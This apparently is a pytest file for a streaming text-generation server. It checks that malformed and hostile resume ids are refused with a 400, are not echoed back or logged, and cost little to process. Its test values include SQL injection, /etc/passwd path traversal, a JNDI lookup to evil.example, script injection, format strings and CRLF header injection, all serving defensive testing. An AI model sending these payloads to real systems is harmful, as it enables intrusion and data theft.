"""Hostile values of Last-Event-ID: each is refused, is not echoed, and is cheap."""

import httpx2
import pytest

from componentstream.server import ServerSettings, create_app
from tests.listening import serving
from tests.timing import WAIT
from tests.web.running import Model, by_name, cheap, events_of, exchange, refusal, token_of

MINE = token_of("me")
HOSTILE = {
    "below zero": "-1",
    "with a sign": "+1",
    "nines": "9" * 400,
    "as many as fit": "9" * 15,
    "a fraction": "1.0",
    "an exponent": "1e1",
    "hexadecimal": "0x1",
    "with a separator": "1_0",
    "not a number": "nan",
    "infinity": "inf",
    "white space": "1 2",
    "an asterisk": "*",
    "a dollar": "$",
    "of Redis": "0-1",
    "greater": ">",
    "SQL": "1' OR '1'='1",
    "SQL with an end": "1; DROP TABLE entries --",
    "a path": "../../etc/passwd",
    "a template": "${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>",
    "a format": "%s%n{0}",
    "a list": "[1]",
    "long": "x" * 7000,
}
NO_ASCII = {
    "Arabic digits": "\u0661",
    "full-width digits": "\uff11",
    "superscript": "\u00b2",
    "half a character": "\udcff",
}
RAW = {
    "NUL": b"1\0",
    "a line feed": b"1\nX-Other: 1",
    "a carriage return": b"1\rX-Other: 1",
    "escape": b"1\x1b[31m",
    "bytes": b"\xff\xfe",
    "a megabyte": b"9" * 1_000_000,
}


@pytest.fixture(scope="module")
def url():
    with serving(create_app(Model(), ServerSettings(rate_limit=None, authenticate=by_name))) as url:
        yield url


@pytest.fixture(scope="module")
def client(url):
    with httpx2.Client(base_url=url, headers=MINE, timeout=WAIT) as client:
        yield client


@pytest.fixture(scope="module")
def stream(client):
    return client.post("/generate", json={"prompt": "x"}).headers["stream-id"]


@pytest.fixture
def stalled(client):
    """Give a stream that stays open during the test."""
    asked = client.post("/generate", json={"prompt": "stall"}, headers={"Prefer": "respond-async"})
    assert asked.status_code == 202
    stream = asked.json()["stream"]
    yield stream
    assert client.delete(f"/streams/{stream}").status_code == 204


@pytest.fixture(autouse=True)
def _no_trace(caplog):
    """Check that nothing is logged except warnings about invalid HTTP."""
    yield
    of_the_server = [record for record in caplog.records if record.name.partition(".")[0] != httpx2.__name__]
    assert {record.getMessage() for record in of_the_server} <= {"Invalid HTTP request received."}


def check_refused(response, id_):
    assert refusal(response)[:2] == (400, "invalid_last_event_id")
    assert response.json()["error"]["message"] == (
        "The stream has no event with this id; send the last id received, or none to read from the start."
    )
    assert id_ not in str(response.headers)


@pytest.mark.parametrize("id_", HOSTILE.values(), ids=HOSTILE)
def test_an_id_that_is_none_is_refused_in_the_header(client, stream, id_):
    with cheap():
        response = client.get(f"/streams/{stream}", headers={"Last-Event-ID": id_})
    check_refused(response, id_)


@pytest.mark.parametrize("id_", (HOSTILE | NO_ASCII).values(), ids=HOSTILE | NO_ASCII)
def test_an_id_that_is_none_is_refused_in_the_query(client, stream, id_):
    response = client.get(f"/streams/{stream}", params={"after": id_.encode("utf-8", "surrogateescape")})
    check_refused(response, id_)


@pytest.mark.parametrize("id_", HOSTILE.values(), ids=HOSTILE)
def test_a_stream_that_goes_on_refuses_it_too(client, stalled, id_):
    check_refused(client.get(f"/streams/{stalled}", headers={"Last-Event-ID": id_}), id_)


@pytest.mark.parametrize("id_", RAW.values(), ids=RAW)
def test_bytes_that_no_client_library_sends_are_refused(url, stream, id_):
    head = f"GET /streams/{stream} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer me\r\n"
    with cheap():
        answer = exchange(url, head.encode() + b"Last-Event-ID: " + id_ + b"\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 400 ")
    assert b"content_block" not in answer


@pytest.mark.parametrize("id_", ["1\0", "1\r\ndata: x", "1\n\n", "9" * 60_000])
def test_they_are_refused_in_the_query_as_well(client, stream, id_):
    check_refused(client.get(f"/streams/{stream}", params={"after": id_}), id_)


def test_an_event_that_has_not_come_yet_is_refused(client, stream, stalled):
    for known in (stream, stalled):
        for id_ in ("1000", "999999999999999"):
            check_refused(client.get(f"/streams/{known}", headers={"Last-Event-ID": id_}), id_)


def test_the_id_of_another_stream_is_no_id_of_an_event(client, stream):
    check_refused(client.get(f"/streams/{stream}", headers={"Last-Event-ID": stream}), stream)


def test_two_ids_are_refused(client, stream):
    twice = [("Last-Event-ID", "1"), ("Last-Event-ID", "2")]
    assert refusal(client.get(f"/streams/{stream}", headers=twice))[:2] == (400, "invalid_last_event_id")
    assert refusal(client.get(f"/streams/{stream}?after=1&after=2"))[:2] == (400, "invalid_last_event_id")


@pytest.mark.parametrize("id_", ["0", "1", "999", "-1", "*"])
@pytest.mark.parametrize("foreign", [True, False], ids=["foreign", "unknown"])
def test_of_a_stream_that_is_not_his_a_user_learns_nothing(client, stream, foreign, id_):
    asked = stream if foreign else "s-" + "0" * 32
    response = client.get(f"/streams/{asked}", headers={"Last-Event-ID": id_} | token_of("another"))
    if id_.isdecimal():
        assert refusal(response)[:2] == (404, "stream_unknown")
    else:
        check_refused(response, id_)


@pytest.mark.parametrize("id_", [None, "", "0", "00"])
def test_who_has_no_event_gets_all(client, stream, id_):
    headers = {} if id_ is None else {"Last-Event-ID": id_}
    whole = client.get(f"/streams/{stream}", headers=headers)
    assert events_of(whole.content)[-1].reason == "complete"
    assert b"id: 1\n" in whole.content


def test_who_has_some_gets_the_rest(client, stream):
    whole = client.get(f"/streams/{stream}").content
    blocks = whole.split(b"\n\n")[:-1]
    for last in range(1, len(blocks)):
        rest = client.get(f"/streams/{stream}", headers={"Last-Event-ID": f"{last:03}"}).content
        assert rest.split(b"\n\n")[:-1] == blocks[last:]
    done = client.get(f"/streams/{stream}", headers={"Last-Event-ID": str(len(blocks))})
    assert (done.status_code, done.content) == (204, b"")


@pytest.mark.parametrize(
    "stream",
    ["x", "*", "s-", "..%2f..", "%00", "%0d%0aX: 1", "t-" + "a" * 32, "x" * 5000, "health"],
)
@pytest.mark.parametrize("method", ["GET", "DELETE"])
def test_what_is_no_stream_is_not_found(client, stream, method):
    status, code, message = refusal(client.request(method, f"/streams/{stream}"))
    assert status == 404
    assert (code, message) in (
        ("stream_unknown", "Stream not found: it was never started, or is no longer kept."),
        ("not_found", "Not found. See openapi.json for the available paths."),
    )
